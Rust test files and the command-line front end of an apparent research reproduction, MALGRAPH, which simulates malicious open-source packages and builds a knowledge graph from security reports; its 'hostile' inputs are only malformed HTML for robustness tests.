            "5",
            "--scale",
            "0.02",
            "--fault-rate",
            "0.3",
            "--retries",
            "3",
            "--out",
            corpus.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("collection health"), "{text}");
    assert!(text.contains("report-corpus"), "{text}");
    assert!(text.contains("total"), "{text}");

    // The resilient manifest is still a valid analyze input.
    let out = bin()
        .args(["analyze", "--corpus", corpus.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));

    // Out-of-range fault rates die with usage errors.
    let out = bin()
        .args(["collect", "--fault-rate", "1.5", "--out", "x.json"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--fault-rate"));

    std::fs::remove_dir_all(&dir).ok();
}
