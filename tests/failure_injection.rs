//! Failure injection across crate boundaries: the pipeline must degrade
//! gracefully on mangled input, tiny worlds, and hostile page content.

use malgraph::crawler::sources::{parse_feed, FeedFormat};
use malgraph::crawler::{collect, extract};
use malgraph::malgraph_core::{build, BuildOptions, SimilarityConfig};
use malgraph::prelude::*;

#[test]
fn hostile_pages_never_panic_the_extractor() {
    let hostile = [
        "",
        "<",
        "<<<<>>>>",
        "<html><code>",
        "<code>npm/x@1.0.0",                      // unterminated
        "<title>malicious</title><code>💣</code>", // non-ascii id
        &"<div>".repeat(10_000),                  // deep nesting
        "plain text with no tags but the word malware and npm/ok@1.0.0",
    ];
    for page in hostile {
        let _ = extract::parse_report_page(page); // must not panic
        let _ = extract::extract_package_ids(page);
        let _ = extract::keyword_filter(page);
    }
}

#[test]
fn corrupt_feed_documents_are_skipped() {
    let docs = vec![
        (FeedFormat::JsonDump, "]][[".to_string()),
        (FeedFormat::JsonDump, "{\"id\": 3}".to_string()),
        (FeedFormat::HtmlPage, "<html>".to_string()),
        (FeedFormat::SnsText, "\u{0}\u{1}\u{2}".to_string()),
    ];
    for source in [SourceId::DataDog, SourceId::Phylum, SourceId::IndividualBlogs] {
        assert!(parse_feed(source, &docs).is_empty());
    }
}

#[test]
fn tiny_world_still_yields_a_coherent_graph() {
    let world = World::generate(
        WorldConfig {
            seed: 4,
            ..WorldConfig::default()
        }
        .with_scale(0.01),
    );
    let corpus = collect(&world);
    assert!(!corpus.packages.is_empty());
    let graph = build(&corpus, &BuildOptions::default());
    assert_eq!(graph.package_count(), corpus.packages.len());
    // All analyses run without panicking even when some groups are empty.
    use malgraph::malgraph_core::analysis::*;
    let _ = overlap::overlap_matrix(&corpus);
    let _ = quality::missing_rates(&corpus);
    let _ = diversity::table7(&graph);
    let _ = diversity::table2(&graph);
    let _ = campaign::lifecycle_stats(&corpus);
    let _ = evolution::op_distribution(&evolution::release_sequences(&graph, &corpus));
}

#[test]
fn degenerate_similarity_configs_are_safe() {
    let world = World::generate(WorldConfig::small(5));
    let corpus = collect(&world);
    for config in [
        SimilarityConfig {
            threshold: 1.0, // nothing passes except exact duplicates
            ..SimilarityConfig::default()
        },
        SimilarityConfig {
            threshold: 0.0, // everything in a cluster passes
            dim: 8,         // absurdly small embedding
            max_k: 4,
            ..SimilarityConfig::default()
        },
    ] {
        let graph = build(
            &corpus,
            &BuildOptions {
                similarity: config,
            },
        );
        // Structure may be degenerate but must stay internally coherent.
        for group in graph.groups(Relation::Similar) {
            assert!(group.len() >= 2);
        }
    }
}

#[test]
fn zero_retention_mirrors_lose_almost_everything() {
    let world = World::generate(WorldConfig {
        seed: 6,
        mirror_retention_days: 0,
        ..WorldConfig::default()
    });
    let corpus = collect(&world);
    let recovered = corpus
        .packages
        .iter()
        .filter(|p| p.recovered_from_mirror)
        .count();
    // With zero retention a mirror drops a package the moment the root
    // removes it; only not-yet-removed captures could survive.
    assert_eq!(recovered, 0, "zero retention must defeat mirror recovery");
    // Dumps still work.
    assert!(corpus.packages.iter().any(|p| p.is_available()));
}
