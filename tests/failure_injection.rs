//! Failure injection across crate boundaries: the pipeline must degrade
//! gracefully on mangled input, tiny worlds, and hostile page content.

use malgraph::crawler::sources::{parse_feed, FeedFormat};
use malgraph::crawler::{collect, extract, import_json};
use malgraph::malgraph_core::{build, BuildOptions, SimilarityConfig};
use malgraph::prelude::*;

#[test]
fn hostile_pages_never_panic_the_extractor() {
    let hostile = [
        "",
        "<",
        "<<<<>>>>",
        "<html><code>",
        "<code>npm/x@1.0.0",                      // unterminated
        "<title>malicious</title><code>💣</code>", // non-ascii id
        &"<div>".repeat(10_000),                  // deep nesting
        "plain text with no tags but the word malware and npm/ok@1.0.0",
    ];
    for page in hostile {
        let _ = extract::parse_report_page(page); // must not panic
        let _ = extract::extract_package_ids(page);
        let _ = extract::keyword_filter(page);
    }
}

#[test]
fn corrupt_feed_documents_are_skipped() {
    let docs = vec![
        (FeedFormat::JsonDump, "]][[".to_string()),
        (FeedFormat::JsonDump, "{\"id\": 3}".to_string()),
        (FeedFormat::HtmlPage, "<html>".to_string()),
        (FeedFormat::SnsText, "\u{0}\u{1}\u{2}".to_string()),
    ];
    for source in [SourceId::DataDog, SourceId::Phylum, SourceId::IndividualBlogs] {
        assert!(parse_feed(source, &docs).is_empty());
    }
}

#[test]
fn tiny_world_still_yields_a_coherent_graph() {
    let world = World::generate(
        WorldConfig {
            seed: 4,
            ..WorldConfig::default()
        }
        .with_scale(0.01),
    );
    let corpus = collect(&world);
    assert!(!corpus.packages.is_empty());
    let graph = build(&corpus, &BuildOptions::default());
    assert_eq!(graph.package_count(), corpus.packages.len());
    // All analyses run without panicking even when some groups are empty.
    use malgraph::malgraph_core::analysis::*;
    let _ = overlap::overlap_matrix(&corpus);
    let _ = quality::missing_rates(&corpus);
    let _ = diversity::table7(&graph);
    let _ = diversity::table2(&graph);
    let _ = campaign::lifecycle_stats(&corpus);
    let _ = evolution::op_distribution(&evolution::release_sequences(&graph, &corpus));
}

#[test]
fn degenerate_similarity_configs_are_safe() {
    let world = World::generate(WorldConfig::small(5));
    let corpus = collect(&world);
    for config in [
        SimilarityConfig {
            threshold: 1.0, // nothing passes except exact duplicates
            ..SimilarityConfig::default()
        },
        SimilarityConfig {
            threshold: 0.0, // everything in a cluster passes
            dim: 8,         // absurdly small embedding
            max_k: 4,
            ..SimilarityConfig::default()
        },
    ] {
        let graph = build(
            &corpus,
            &BuildOptions {
                similarity: config,
            },
        );
        // Structure may be degenerate but must stay internally coherent.
        for group in graph.groups(Relation::Similar) {
            assert!(group.len() >= 2);
        }
    }
}

#[test]
fn zero_retention_mirrors_lose_almost_everything() {
    let world = World::generate(WorldConfig {
        seed: 6,
        mirror_retention_days: 0,
        ..WorldConfig::default()
    });
    let corpus = collect(&world);
    let recovered = corpus
        .packages
        .iter()
        .filter(|p| p.recovered_from_mirror)
        .count();
    // With zero retention a mirror drops a package the moment the root
    // removes it; only not-yet-removed captures could survive.
    assert_eq!(recovered, 0, "zero retention must defeat mirror recovery");
    // Dumps still work.
    assert!(corpus.packages.iter().any(|p| p.is_available()));
}

// ---------------------------------------------------------------------------
// Unreliable-transport sweeps: the resilient collector must degrade
// gracefully at every fault rate, never panic, and stay deterministic
// across thread counts.
// ---------------------------------------------------------------------------

fn sweep_world() -> World {
    World::generate(WorldConfig::small(77))
}

#[test]
fn zero_fault_rate_reproduces_the_legacy_corpus() {
    let world = sweep_world();
    let legacy = collect(&world);
    let resilient = collect_with(
        &world,
        &CollectOptions {
            faults: FaultConfig::transient(0.0),
            ..CollectOptions::default()
        },
    );
    assert_eq!(resilient.packages, legacy.packages);
    assert_eq!(resilient.reports, legacy.reports);
    let health = resilient.health.expect("resilient collector reports health");
    assert!(health.is_fault_free(), "no faults at rate 0");
}

#[test]
fn moderate_fault_rate_recovers_most_of_the_corpus() {
    let world = sweep_world();
    let baseline = collect(&world);
    let resilient = collect_with(
        &world,
        &CollectOptions {
            faults: FaultConfig::transient(0.30),
            retry: RetryPolicy::with_retries(3),
            ..CollectOptions::default()
        },
    );
    let health = resilient.health.as_ref().expect("health present");
    let total = health.total();
    assert!(total.retries > 0, "30% transient rate must trigger retries");
    assert!(total.recovered > 0, "retries must recover documents");
    // The acceptance bar: ≥95% of the fault-free package count survives.
    let kept = resilient.packages.len() as f64;
    let full = baseline.packages.len() as f64;
    assert!(
        kept >= full * 0.95,
        "expected ≥95% recovery, got {kept}/{full}"
    );
}

#[test]
fn total_blackout_yields_an_empty_corpus_without_panicking() {
    let world = sweep_world();
    for faults in [FaultConfig::transient(1.0), FaultConfig::mixed(1.0)] {
        let resilient = collect_with(
            &world,
            &CollectOptions {
                faults,
                retry: RetryPolicy::with_retries(2),
                ..CollectOptions::default()
            },
        );
        assert!(resilient.packages.is_empty(), "blackout delivers nothing");
        assert!(resilient.reports.is_empty());
        let health = resilient.health.expect("health present");
        let total = health.total();
        assert_eq!(total.delivered, 0);
        assert!(total.dropped > 0);
    }
}

#[test]
fn fault_sweep_is_deterministic_across_thread_counts() {
    let world = sweep_world();
    for rate in [0.0, 0.15, 0.30, 0.60] {
        let run = |threads: usize| {
            collect_with(
                &world,
                &CollectOptions {
                    faults: FaultConfig::mixed(rate),
                    retry: RetryPolicy::with_retries(2),
                    threads,
                    ..CollectOptions::default()
                },
            )
        };
        let single = run(1);
        let parallel = run(7);
        assert_eq!(single.packages, parallel.packages, "rate {rate}");
        assert_eq!(single.reports, parallel.reports, "rate {rate}");
        assert_eq!(single.health, parallel.health, "rate {rate}");
    }
}

#[test]
fn health_totals_reconcile_at_every_rate() {
    let world = sweep_world();
    for rate in [0.0, 0.30, 0.75, 1.0] {
        let resilient = collect_with(
            &world,
            &CollectOptions {
                faults: FaultConfig::transient(rate),
                retry: RetryPolicy::with_retries(3),
                ..CollectOptions::default()
            },
        );
        let health = resilient.health.expect("health present");
        let total = health.total();
        // Accounting identities: every attempt is either the first try of
        // a document or a retry; every document is delivered or dropped.
        assert_eq!(total.attempts, total.documents() + total.retries, "rate {rate}");
        assert_eq!(total.documents(), total.delivered + total.dropped, "rate {rate}");
        assert!(total.recovered <= total.delivered, "rate {rate}");
    }
}

// ---------------------------------------------------------------------------
// Regression: a report listing the same package twice used to panic the
// builder (`assert_ne!` on a self-consistent duplicate coexisting edge).
// ---------------------------------------------------------------------------

#[test]
fn duplicate_package_in_imported_report_does_not_panic_the_builder() {
    let manifest = r#"{
        "format_version": 1,
        "collect_time": 500000,
        "website_count": 1,
        "packages": [
            {"id": "npm/left-pad@1.0.0",
             "mentions": [["phylum", 400000]],
             "sha256": null,
             "recovered_from_mirror": false,
             "mirror_recoverable": false,
             "meta": null},
            {"id": "npm/right-pad@1.0.0",
             "mentions": [["socket", 400000]],
             "sha256": null,
             "recovered_from_mirror": false,
             "mirror_recoverable": false,
             "meta": null}
        ],
        "reports": [
            {"website": "blog.example.net",
             "category": "commercial",
             "published": 450000,
             "title": "left-pad typosquat wave",
             "packages": ["npm/left-pad@1.0.0",
                          "npm/left-pad@1.0.0",
                          "npm/right-pad@1.0.0"],
             "actor": null}
        ]
    }"#;
    let corpus = import_json(manifest).expect("manifest parses");
    let graph = build(&corpus, &BuildOptions::default());
    // The duplicated listing still yields exactly one coexisting pair.
    let coexisting = graph.groups(Relation::Coexisting);
    assert_eq!(coexisting.len(), 1);
    assert_eq!(coexisting[0].len(), 2);
}
