//! MALGRAPH reproduction — facade crate.
//!
//! One `use malgraph::…` away from the whole workspace:
//!
//! * [`registry_sim`] — the simulated OSS "wild" (campaigns, registries,
//!   mirrors, security reports), calibrated to the paper's aggregates;
//! * [`crawler`] — the collection pipeline (feeds → parse → merge →
//!   mirror recovery → corpus);
//! * [`malgraph_core`] — the knowledge graph (four relations, subgraph
//!   groups) and the RQ1–RQ4 analyses;
//! * [`obs`] — structured tracing, metrics, and exporters instrumented
//!   through every layer above;
//! * substrates: [`oss_types`], [`minilang`], [`embed`], [`cluster`],
//!   [`graphstore`], [`jsonio`].
//!
//! # Quickstart
//!
//! ```
//! use malgraph::prelude::*;
//!
//! let world = World::generate(WorldConfig::small(7));
//! let corpus = collect(&world);
//! let graph = build(&corpus, &BuildOptions::default());
//! println!("{} packages in {} similar groups",
//!          corpus.packages.len(),
//!          graph.groups(Relation::Similar).len());
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub use cluster;
pub use crawler;
pub use detector;
pub use embed;
pub use graphstore;
pub use jsonio;
pub use malgraph_core;
pub use minilang;
pub use obs;
pub use oss_types;
pub use registry_sim;

/// The most common imports for working with the reproduction.
pub mod prelude {
    pub use crawler::{
        collect, collect_with, CollectOptions, CollectedDataset, CollectionHealth, RegistryView,
    };
    pub use malgraph_core::{build, BuildOptions, MalGraph, Relation, SimilarityConfig};
    pub use oss_types::{
        ChangeOp, Ecosystem, FaultConfig, PackageId, RetryPolicy, SimDuration, SimTime, SourceId,
    };
    pub use registry_sim::{CampaignKind, World, WorldConfig};
}

#[cfg(test)]
mod tests {
    use super::prelude::*;

    #[test]
    fn facade_wires_the_pipeline() {
        let world = World::generate(WorldConfig::small(99));
        let corpus = collect(&world);
        let graph = build(&corpus, &BuildOptions::default());
        assert!(graph.graph.node_count() >= corpus.packages.len());
    }
}
