//! `malgraph` — command-line front end for the reproduction.
//!
//! ```text
//! malgraph world   [--seed N] [--scale F]            # world statistics
//! malgraph collect [--seed N] [--scale F] --out P    # corpus → JSON
//!                  [--manifest-only] [--fault-rate F] [--retries N]
//!                  [--fault-seed N] [--threads N]
//! malgraph analyze --corpus P                        # JSON → MALGRAPH → summary
//! malgraph ingest  [--seed N] [--scale F]            # windowed incremental build
//!                  [--windows N] [--threads N] [--verify]
//!                  [--checkpoint-dir DIR] [--crash-at POINT[:N]]
//! malgraph scan <file.pyl> [name]                    # detectors on one file
//! malgraph stats [snapshot.json]                     # pretty-print a metrics snapshot
//! malgraph perf diff <base.json> <new.json>          # regression sentinel
//!                  [--threshold F] [--floor-us N] [--floor-count N] [--all]
//! ```
//!
//! `ingest` replays the corpus as a sequence of disclosure-quantile
//! collection windows and folds each delta into a live graph
//! (`MalGraph::apply_delta`), printing per-window growth; `--verify`
//! additionally runs a one-shot build over the union corpus and checks
//! the incremental graph against it node for node, edge for edge.
//!
//! With `--checkpoint-dir` the run is crash-consistent: every window is
//! journaled and checkpointed to the directory, and an interrupted run
//! invoked again with the same directory (and the same seed/scale/
//! windows — the run stamp refuses a mismatch) resumes where durability
//! left off, finishing with a graph byte-identical to an uninterrupted
//! run. `--crash-at POINT[:N]` arms the deterministic crash injector at
//! a named stage boundary (see `malgraph_core::CRASH_POINTS`); the
//! simulated crash aborts the process with exit code 3, exactly as a
//! `kill -9` would, except addressable in tests.
//!
//! `collect`, `analyze`, `ingest` and `scan` additionally accept the
//! observability flags `--metrics-out <file>` (JSON snapshot, schema
//! `malgraph-obs/2`), `--trace-out <file>` (Chrome trace-event JSON for
//! `chrome://tracing` / Perfetto), `--profile-out <file>` (folded-stack
//! self-time profile for flamegraph.pl/inferno, with allocation
//! accounting switched on) and
//! `--log-level <off|error|warn|info|debug|trace>`.
//!
//! `perf diff` loads two perf artifacts — obs snapshots (`malgraph-obs/1`
//! or `/2`) or `BENCH_*.json` reports — and exits 1 when any span,
//! counter, or timing grew past the noise thresholds; `ci.sh`'s
//! `perf_gate` runs it against the baselines checked in under
//! `baselines/`.
//!
//! `collect` + `analyze` round-trip through the export format, the flow a
//! downstream lab would use with a published corpus. With `--fault-rate`
//! the collection runs through the unreliable transport — transient
//! faults at the given rate, bounded retry/backoff — and prints the
//! per-source health table.

use malgraph::crawler::{
    collect, collect_with, export_json, import_json, CollectOptions, CollectionHealth,
    ExportFidelity, FetchHealth,
};
use malgraph::detector::{DynamicDetector, StaticDetector};
use malgraph::malgraph_core::analysis::{actors, diversity, evolution, overlap, quality};
use malgraph::malgraph_core::{build, BuildOptions, IngestState, MalGraph};
use malgraph::prelude::*;
use malgraph::registry_sim::WindowPlan;
use malgraph::{jsonio, obs};

// Counting allocator: a transparent System passthrough until a profiling
// flag calls `obs::alloc::enable_tracking()`, then spans charge their
// allocation bytes/calls (surfaced by `--profile-out` and `--metrics-out`).
#[global_allocator]
static ALLOC: obs::alloc::CountingAlloc = obs::alloc::CountingAlloc::new();

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let code = match args.first().map(String::as_str) {
        Some("world") => cmd_world(&args[1..]),
        Some("collect") => cmd_collect(&args[1..]),
        Some("analyze") => cmd_analyze(&args[1..]),
        Some("ingest") => cmd_ingest(&args[1..]),
        Some("scan") => cmd_scan(&args[1..]),
        Some("stats") => cmd_stats(&args[1..]),
        Some("perf") => cmd_perf(&args[1..]),
        _ => {
            eprintln!(
                "usage: malgraph <world|collect|analyze|ingest|scan|stats|perf> …\n\
                 \n\
                 world   [--seed N] [--scale F]\n\
                 collect [--seed N] [--scale F] --out corpus.json [--manifest-only]\n\
                 \x20        [--fault-rate F] [--retries N] [--fault-seed N] [--threads N]\n\
                 analyze --corpus corpus.json\n\
                 ingest  [--seed N] [--scale F] [--windows N] [--threads N] [--verify]\n\
                 \x20        [--checkpoint-dir DIR] [--crash-at POINT[:N]]\n\
                 scan <file.pyl> [package-name]\n\
                 stats   [snapshot.json]\n\
                 perf diff <base.json> <new.json> [--threshold F] [--floor-us N]\n\
                 \x20        [--floor-count N] [--all]\n\
                 \n\
                 collect/analyze/ingest/scan also accept:\n\
                 \x20  --metrics-out FILE   write a metrics snapshot (malgraph-obs/2 JSON)\n\
                 \x20  --trace-out FILE     write a Chrome trace (chrome://tracing, Perfetto)\n\
                 \x20  --profile-out FILE   write a folded-stack self-time profile\n\
                 \x20                       (flamegraph.pl/inferno input; enables alloc accounting)\n\
                 \x20  --log-level LEVEL    off|error|warn|info|debug|trace (default warn)"
            );
            2
        }
    };
    std::process::exit(code);
}

/// The subcommand being parsed; flag validation is per-subcommand.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Cmd {
    World,
    Collect,
    Analyze,
    Ingest,
    Scan,
    Stats,
    Perf,
}

impl Cmd {
    fn name(self) -> &'static str {
        match self {
            Cmd::World => "world",
            Cmd::Collect => "collect",
            Cmd::Analyze => "analyze",
            Cmd::Ingest => "ingest",
            Cmd::Scan => "scan",
            Cmd::Stats => "stats",
            Cmd::Perf => "perf",
        }
    }

    /// How many positional arguments the subcommand accepts.
    fn max_positional(self) -> usize {
        match self {
            Cmd::World | Cmd::Collect | Cmd::Analyze | Cmd::Ingest => 0,
            Cmd::Scan => 2,
            Cmd::Stats => 1,
            Cmd::Perf => 3, // "diff" <base> <new>
        }
    }
}

/// The subcommands each flag is valid on; `None` means the flag is
/// unknown everywhere.
fn flag_cmds(flag: &str) -> Option<&'static [Cmd]> {
    use Cmd::*;
    Some(match flag {
        "--seed" | "--scale" => &[World, Collect, Ingest],
        "--out" | "--manifest-only" | "--fault-rate" | "--retries" | "--fault-seed" => &[Collect],
        "--threads" => &[Collect, Ingest],
        "--corpus" => &[Analyze],
        "--windows" | "--verify" | "--checkpoint-dir" | "--crash-at" => &[Ingest],
        "--metrics-out" | "--trace-out" | "--profile-out" | "--log-level" => {
            &[Collect, Analyze, Ingest, Scan]
        }
        "--threshold" | "--floor-us" | "--floor-count" | "--all" => &[Perf],
        _ => return None,
    })
}

struct CommonOpts {
    seed: u64,
    scale: f64,
    out: Option<String>,
    corpus: Option<String>,
    manifest_only: bool,
    fault_rate: Option<f64>,
    retries: Option<u32>,
    fault_seed: Option<u64>,
    threads: Option<usize>,
    windows: usize,
    verify: bool,
    checkpoint_dir: Option<String>,
    crash_at: Option<String>,
    metrics_out: Option<String>,
    trace_out: Option<String>,
    profile_out: Option<String>,
    log_level: Option<obs::Level>,
    threshold: Option<f64>,
    floor_us: Option<f64>,
    floor_count: Option<f64>,
    all: bool,
    positional: Vec<String>,
}

fn parse_opts(cmd: Cmd, args: &[String]) -> CommonOpts {
    let mut opts = CommonOpts {
        seed: 42,
        scale: 0.05,
        out: None,
        corpus: None,
        manifest_only: false,
        fault_rate: None,
        retries: None,
        fault_seed: None,
        threads: None,
        windows: 10,
        verify: false,
        checkpoint_dir: None,
        crash_at: None,
        metrics_out: None,
        trace_out: None,
        profile_out: None,
        log_level: None,
        threshold: None,
        floor_us: None,
        floor_count: None,
        all: false,
        positional: Vec::new(),
    };
    let mut it = args.iter();
    while let Some(arg) = it.next() {
        if arg.starts_with('-') {
            match flag_cmds(arg) {
                None => die(&format!(
                    "unknown flag {arg} (run `malgraph` with no arguments for usage)"
                )),
                Some(cmds) if !cmds.contains(&cmd) => {
                    die(&format!("{arg} is not supported by `{}`", cmd.name()))
                }
                Some(_) => {}
            }
        }
        match arg.as_str() {
            "--seed" => opts.seed = next_parsed(&mut it, "--seed"),
            "--scale" => {
                let scale: f64 = next_parsed(&mut it, "--scale");
                if !scale.is_finite() || scale <= 0.0 || scale > 1.0 {
                    die("--scale must be a finite value in (0, 1]");
                }
                opts.scale = scale;
            }
            "--out" => opts.out = Some(next_str(&mut it, "--out")),
            "--corpus" => opts.corpus = Some(next_str(&mut it, "--corpus")),
            "--manifest-only" => opts.manifest_only = true,
            "--fault-rate" => {
                let rate: f64 = next_parsed(&mut it, "--fault-rate");
                if !rate.is_finite() || !(0.0..=1.0).contains(&rate) {
                    die("--fault-rate must be a finite value in [0, 1]");
                }
                opts.fault_rate = Some(rate);
            }
            "--retries" => opts.retries = Some(next_parsed(&mut it, "--retries")),
            "--fault-seed" => opts.fault_seed = Some(next_parsed(&mut it, "--fault-seed")),
            "--threads" => {
                let threads: usize = next_parsed(&mut it, "--threads");
                if threads == 0 {
                    die("--threads must be at least 1 (omit the flag to use all cores)");
                }
                opts.threads = Some(threads);
            }
            "--windows" => {
                let windows: usize = next_parsed(&mut it, "--windows");
                if windows == 0 {
                    die("--windows must be at least 1");
                }
                opts.windows = windows;
            }
            "--verify" => opts.verify = true,
            "--checkpoint-dir" => {
                opts.checkpoint_dir = Some(next_str(&mut it, "--checkpoint-dir"))
            }
            "--crash-at" => opts.crash_at = Some(next_str(&mut it, "--crash-at")),
            "--metrics-out" => opts.metrics_out = Some(next_str(&mut it, "--metrics-out")),
            "--trace-out" => opts.trace_out = Some(next_str(&mut it, "--trace-out")),
            "--profile-out" => opts.profile_out = Some(next_str(&mut it, "--profile-out")),
            "--threshold" => {
                let rel: f64 = next_parsed(&mut it, "--threshold");
                if !rel.is_finite() || rel < 0.0 {
                    die("--threshold must be a finite value >= 0 (e.g. 0.10 for 10%)");
                }
                opts.threshold = Some(rel);
            }
            "--floor-us" => {
                let floor: f64 = next_parsed(&mut it, "--floor-us");
                if !floor.is_finite() || floor < 0.0 {
                    die("--floor-us must be a finite value >= 0");
                }
                opts.floor_us = Some(floor);
            }
            "--floor-count" => {
                let floor: f64 = next_parsed(&mut it, "--floor-count");
                if !floor.is_finite() || floor < 0.0 {
                    die("--floor-count must be a finite value >= 0");
                }
                opts.floor_count = Some(floor);
            }
            "--all" => opts.all = true,
            "--log-level" => {
                let raw = next_str(&mut it, "--log-level");
                opts.log_level =
                    Some(raw.parse().unwrap_or_else(|e: String| die(&format!("--log-level: {e}"))));
            }
            other => {
                if opts.positional.len() >= cmd.max_positional() {
                    die(&format!(
                        "unexpected argument {other:?} (`{}` takes at most {} positional arguments)",
                        cmd.name(),
                        cmd.max_positional()
                    ));
                }
                opts.positional.push(other.to_string());
            }
        }
    }
    opts
}

fn next_str(it: &mut std::slice::Iter<'_, String>, flag: &str) -> String {
    it.next().unwrap_or_else(|| die(&format!("{flag} needs a value"))).clone()
}

fn next_parsed<T: std::str::FromStr>(it: &mut std::slice::Iter<'_, String>, flag: &str) -> T {
    next_str(it, flag)
        .parse()
        .unwrap_or_else(|_| die(&format!("{flag}: bad value")))
}

fn die(msg: &str) -> ! {
    eprintln!("error: {msg}");
    std::process::exit(2);
}

/// Applies the observability flags: the metrics registry is enabled only
/// when an output file will consume it (the no-op path stays one branch
/// per site otherwise); the log level applies either way.
fn obs_setup(opts: &CommonOpts) {
    if let Some(level) = opts.log_level {
        obs::set_log_level(level);
    }
    if opts.metrics_out.is_some() || opts.trace_out.is_some() || opts.profile_out.is_some() {
        obs::enable();
    }
    if opts.profile_out.is_some() {
        // Allocation accounting rides on the profile flag: the folded
        // alloc columns and snapshot alloc fields come from the same run.
        obs::alloc::enable_tracking();
    }
}

/// Writes the requested snapshot files. Called before the command's exit
/// code is returned so `scan`'s non-zero exit still produces the files.
fn obs_finish(opts: &CommonOpts) {
    if opts.metrics_out.is_none() && opts.trace_out.is_none() && opts.profile_out.is_none() {
        return;
    }
    // Exports go through the atomic temp+fsync+rename path: a crash
    // (simulated or real) mid-write must never leave a half-written
    // snapshot that a later `stats`/`perf diff` would trip over.
    let write = |path: &str, contents: &str| {
        jsonio::durable::write_atomic(std::path::Path::new(path), contents.as_bytes())
            .unwrap_or_else(|e| die(&format!("write {path}: {e}")));
    };
    let snapshot = obs::snapshot();
    if let Some(path) = &opts.metrics_out {
        write(path, &snapshot.to_json());
        eprintln!("wrote metrics snapshot {path} (inspect with `malgraph stats {path}`)");
    }
    if let Some(path) = &opts.trace_out {
        write(path, &snapshot.to_chrome_trace());
        eprintln!("wrote Chrome trace {path} (load in chrome://tracing or Perfetto)");
    }
    if let Some(path) = &opts.profile_out {
        write(path, &snapshot.to_folded());
        let alloc_path = format!("{path}.alloc");
        write(&alloc_path, &snapshot.to_folded_alloc());
        eprintln!(
            "wrote folded profiles {path} (self-µs) and {alloc_path} (self-bytes) \
             (render with flamegraph.pl or inferno-flamegraph)"
        );
    }
}

fn generate(opts: &CommonOpts) -> World {
    World::generate(
        WorldConfig {
            seed: opts.seed,
            ..WorldConfig::default()
        }
        .with_scale(opts.scale),
    )
}

fn cmd_world(args: &[String]) -> i32 {
    let opts = parse_opts(Cmd::World, args);
    let world = generate(&opts);
    println!("seed {} scale {}", opts.seed, opts.scale);
    println!("packages : {}", world.packages.len());
    println!("campaigns: {}", world.campaigns.len());
    for kind in [
        CampaignKind::Similar,
        CampaignKind::Flood,
        CampaignKind::Dependency,
        CampaignKind::Trojan,
    ] {
        let n = world.campaigns.iter().filter(|c| c.kind == kind).count();
        println!("  {:<11} {n}", kind.label());
    }
    println!("mentions : {}", world.mentions.len());
    println!("reports  : {} across {} websites", world.reports.len(), world.websites.len());
    println!("mirrors  : {}", world.mirrors.len());
    0
}

fn cmd_collect(args: &[String]) -> i32 {
    let opts = parse_opts(Cmd::Collect, args);
    let Some(out) = &opts.out else {
        die("collect requires --out <path>");
    };
    obs_setup(&opts);
    let world = generate(&opts);
    let resilient = opts.fault_rate.is_some()
        || opts.retries.is_some()
        || opts.fault_seed.is_some()
        || opts.threads.is_some();
    let corpus = if resilient {
        use malgraph::oss_types::{FaultConfig, RetryPolicy};
        let mut collect_opts = CollectOptions {
            faults: FaultConfig::transient(opts.fault_rate.unwrap_or(0.0)),
            fault_seed: opts.fault_seed,
            threads: opts.threads.unwrap_or(0),
            ..CollectOptions::default()
        };
        if let Some(retries) = opts.retries {
            collect_opts.retry = RetryPolicy::with_retries(retries);
        }
        collect_with(&world, &collect_opts)
    } else {
        collect(&world)
    };
    let fidelity = if opts.manifest_only {
        ExportFidelity::ManifestOnly
    } else {
        ExportFidelity::Full
    };
    let json = export_json(&corpus, fidelity).unwrap_or_else(|e| die(&e.to_string()));
    std::fs::write(out, &json).unwrap_or_else(|e| die(&format!("write {out}: {e}")));
    println!(
        "wrote {out}: {} packages ({} available), {} reports, {} bytes",
        corpus.packages.len(),
        corpus.packages.iter().filter(|p| p.is_available()).count(),
        corpus.reports.len(),
        json.len()
    );
    if let Some(health) = &corpus.health {
        print_health(health);
    }
    obs_finish(&opts);
    0
}

fn print_health(health: &CollectionHealth) {
    println!("\n-- collection health");
    println!(
        "{:<16} {:>6} {:>9} {:>8} {:>10} {:>8} {:>12}",
        "channel", "docs", "attempts", "retries", "recovered", "dropped", "backoff(ms)"
    );
    let row = |label: &str, h: &FetchHealth| {
        println!(
            "{:<16} {:>6} {:>9} {:>8} {:>10} {:>8} {:>12}",
            label,
            h.documents(),
            h.attempts,
            h.retries,
            h.recovered,
            h.dropped,
            h.backoff_ms
        );
    };
    for (source, h) in &health.sources {
        row(source.slug(), h);
    }
    row("mirror", &health.mirror);
    row("report-corpus", &health.report_corpus);
    row("total", &health.total());
}

fn cmd_analyze(args: &[String]) -> i32 {
    let opts = parse_opts(Cmd::Analyze, args);
    let Some(path) = &opts.corpus else {
        die("analyze requires --corpus <path>");
    };
    obs_setup(&opts);
    let json = std::fs::read_to_string(path).unwrap_or_else(|e| die(&format!("read {path}: {e}")));
    let corpus = import_json(&json).unwrap_or_else(|e| die(&e.to_string()));
    println!(
        "imported {} packages / {} reports (collected {})",
        corpus.packages.len(),
        corpus.reports.len(),
        corpus.collect_time
    );
    let graph = build(&corpus, &BuildOptions::default());

    let analyze_span = obs::span!("analyze");
    println!("\n-- relation graphs (Table II shape)");
    for row in diversity::table2(&graph) {
        println!(
            "{:<4} {:>6} nodes {:>9} edges (avg degree {:.2})",
            row.relation.group_label(),
            row.nodes,
            row.edges,
            row.avg_out_degree
        );
    }

    println!("\n-- diversity (Table VII shape)");
    for row in diversity::table7(&graph) {
        println!(
            "{:<9} SG {:>3} ({:>6.1})  DeG {:>2} ({:.1})  CG {:>3} ({:.1})",
            row.ecosystem.display_name(),
            row.sg.groups,
            row.sg.avg_size,
            row.deg.groups,
            row.deg.avg_size,
            row.cg.groups,
            row.cg.avg_size
        );
    }

    let matrix = overlap::overlap_matrix(&corpus);
    use malgraph::oss_types::SourceCategory::{Academia, Industry};
    println!(
        "\n-- overlap: academia↔academia {:.1}, industry↔industry {:.1} (Table IV shape)",
